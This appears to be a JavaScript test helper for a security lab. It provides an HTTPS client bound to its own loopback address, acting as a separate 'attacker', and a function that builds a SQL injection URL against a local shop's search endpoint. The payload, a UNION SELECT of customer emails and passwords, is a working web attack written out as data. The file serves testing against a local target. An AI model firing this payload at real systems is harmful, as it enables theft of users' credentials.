// A second client, which is no browser: plain HTTPS with the root certificate, from an address of its own.
import { readFile } from 'node:fs/promises';
import https from 'node:https';

/** Sends one GET and gives status, headers and body. */
export async function get(url, ca, headers = {}) {
  const root = await readFile(ca);
  return new Promise((resolve, reject) => {
    // All of 127/8 is this machine, so the attacker is a client apart from the browser.
    const request = https.get(url, { ca: root, headers, localAddress: '127.0.0.66', agent: false }, (response) => {
      let body = '';
      response.setEncoding('utf8');
      response.on('data', (text) => (body += text));
      response.on('end', () => resolve({ status: response.statusCode, headers: response.headers, body }));
    });
    request.setTimeout(15_000, () => request.destroy(new Error('no answer within 15 s')));
    request.on('error', reject);
  });
}

/** An injection that works on the bare shop: it lists every customer's address. */
export function injection(shop) {
  const url = new URL('/search', shop);
  url.searchParams.set('q', "' UNION SELECT email, password FROM customers --");
  return url.href;
}
